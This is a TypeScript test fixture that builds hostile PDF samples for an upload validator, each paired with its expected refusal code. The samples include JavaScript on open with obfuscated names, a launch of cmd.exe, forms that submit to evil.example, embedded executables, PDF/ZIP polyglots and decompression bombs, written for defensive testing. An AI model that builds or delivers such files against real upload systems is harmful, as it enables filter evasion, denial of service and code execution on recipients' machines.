import { deflateSync } from 'node:zlib';
import type { UploadRefusalCode } from '#lib/upload-refusal.ts';
import type { HostileFile } from './hostile-file.ts';
import { deflated, makePdf, objectStream, stream } from './pdf-file.ts';
import { makePng } from './png-file.ts';
import { makeZip } from './zip-file.ts';

const javascript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const page = '<html><script>alert(1)</script></html>';

/** A ZIP whose comment is the rest of the file, so that both readers are content. */
function pdfInZipComment(): Buffer {
  const zip = makeZip();
  const end = zip.lastIndexOf('PK\x05\x06');
  const rest = Buffer.from('\nstartxref\n0\n%%EOF\n');
  const archive = Buffer.from(zip);
  archive.writeUInt16LE(rest.length, end + 20);
  return Buffer.concat([makePdf().subarray(0, -30), archive, rest]);
}

type Row = [title: string, code: UploadRefusalCode, make: () => Buffer, pages?: number];

const rows: Row[] = [
  ['nothing', 'empty', () => Buffer.alloc(0)],
  ['text', 'not-a-pdf', () => Buffer.from('no pdf')],
  ['picture', 'not-a-pdf', () => makePng()],
  ['page named PDF', 'not-a-pdf', () => Buffer.from(page)],
  ['ten megabytes and more', 'too-large', () => makePdf({ tail: Buffer.alloc(10 * 1024 * 1024) })],
  ['PDF behind a page', 'not-a-pdf', () => Buffer.concat([Buffer.from(page), makePdf()])],
  ['PDF with a page at its beginning', 'mixed', () => makePdf({ head: page })],
  ['PDF with a page behind it', 'mixed', () => makePdf({ tail: page })],
  ['PDF and ZIP', 'mixed', () => makePdf({ tail: makeZip() })],
  ['PDF in the comment of a ZIP', 'mixed', pdfInZipComment],
  ['mark at the beginning alone', 'broken', () => Buffer.from('%PDF-1.7\n')],
  ['marks at both ends alone', 'broken', () => Buffer.from(`%PDF-1.7\n${'% nothing\n'.repeat(20)}%%EOF\n`)],
  ['cut in the middle', 'broken', () => makePdf().subarray(0, 300)],
  ['cut before its end', 'broken', () => makePdf().subarray(0, -7)],
  [
    'cross-reference that leads to itself',
    'broken',
    () => makePdf({ trailer: `/Prev ${makePdf().indexOf('xref\n0')}` }),
  ],
  ['cross-reference that leads nowhere', 'broken', () => makePdf({ startxref: 7 })],
  ['cross-reference beyond the end', 'broken', () => makePdf({ startxref: 999_999_999 })],
  ['object with a huge number', 'broken', () => makePdf({ head: '99999999999999 0 obj\nnull\nendobj\n' })],
  [
    'arrays in arrays, a hundred thousand deep',
    'broken',
    () => makePdf({ more: ['['.repeat(100_000) + ']'.repeat(100_000)] }),
  ],
  [
    'stream without an end',
    'broken',
    () => makePdf({ content: Buffer.from('<< /Length 5 >>\nstream\nBT ET\n') }),
  ],
  [
    'object hidden in a stream',
    'broken',
    () => makePdf({ more: [stream('\n9 0 obj\n<< /S /JavaScript >>\nendobj\n')] }),
  ],
  [
    'object stream that is damaged',
    'broken',
    () => makePdf({ more: [stream('xxxx', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
  ],
  [
    'encrypted',
    'encrypted',
    () => makePdf({ trailer: '/Encrypt 5 0 R', more: ['<< /Filter /Standard /V 4 >>'] }),
  ],
  ['script on opening', 'active', () => makePdf({ catalog: `/OpenAction ${javascript}` })],
  [
    'script on opening, elsewhere',
    'active',
    () => makePdf({ catalog: '/OpenAction 5 0 R', more: [javascript] }),
  ],
  [
    'script with a disguised name',
    'active',
    () => makePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
  ],
  [
    'script among the names',
    'active',
    () => makePdf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' }),
  ],
  [
    'script in an object stream',
    'active',
    () => makePdf({ catalog: '/OpenAction 9 0 R', more: [objectStream(9, javascript)] }),
  ],
  [
    'script in an object stream that does not say so',
    'active',
    () => makePdf({ more: [deflated(`9 0 ${javascript}`, '/N 1 /First 4')] }),
  ],
  [
    'site on opening',
    'active',
    () => makePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
  ],
  [
    'site on opening, elsewhere',
    'active',
    () => makePdf({ catalog: '/OpenAction 5 0 R', more: ['<< /S /URI /URI (https://evil.example) >>'] }),
  ],
  ['program on opening', 'active', () => makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['action on turning the page', 'active', () => makePdf({ page: '/AA << /O << /S /Named /N /Print >> >>' })],
  [
    'form that sends',
    'active',
    () =>
      makePdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>]' }),
  ],
  [
    'form of another kind',
    'active',
    () => makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', more: [stream('<xdp/>')] }),
  ],
  ['film', 'active', () => makePdf({ page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' })],
  [
    'file in it',
    'attachments',
    () =>
      makePdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 5 0 R >> >>] >> >>',
        more: [stream('MZ', '/Type /EmbeddedFile')],
      }),
  ],
  ['file at a note', 'attachments', () => makePdf({ page: '/Annots [<< /Subtype /FileAttachment >>]' })],
  ['portfolio', 'attachments', () => makePdf({ catalog: '/Collection << /View /T >>' })],
  ['a hundred thousand pages in words', 'too-long', () => makePdf({ count: 100_000 }), 100_000],
  [
    'two thousand pages in fact',
    'too-long',
    () => makePdf({ more: Array.from({ length: 2000 }, () => '<< /Type /Page /Parent 2 0 R >>') }),
    2001,
  ],
  ['content that unpacks to 300 MB', 'bomb', () => makePdf({ content: deflated(Buffer.alloc(300_000_000)) })],
  [
    'content that was packed twice',
    'bomb',
    () =>
      makePdf({
        content: stream(deflateSync(deflateSync(Buffer.alloc(50_000_000))), '/Filter [/FlateDecode /Fl]'),
      }),
  ],
  [
    'content that was packed, then written in hexadecimal digits',
    'bomb',
    () =>
      makePdf({
        content: stream(deflateSync(Buffer.alloc(200_000_000)).toString('hex'), '/Filter [/AHx /Fl]'),
      }),
  ],
  [
    'many streams that unpack to 100 MB',
    'bomb',
    () => makePdf({ more: Array.from({ length: 8 }, () => deflated(Buffer.alloc(100_000_000))) }),
  ],
  [
    'more objects than any document has',
    'bomb',
    () => makePdf({ more: Array.from({ length: 250_000 }, () => '0') }),
  ],
];

/** Reports and CVs, and what pretends to be one. */
export const hostilePdfs: HostileFile[] = rows.map(([title, code, make, pages], index) => ({
  title,
  role: index % 2 === 0 ? 'audit' : 'cv',
  name: 'report.pdf',
  make,
  refusal: { code, ...(pages === undefined ? {} : { pages }) },
}));
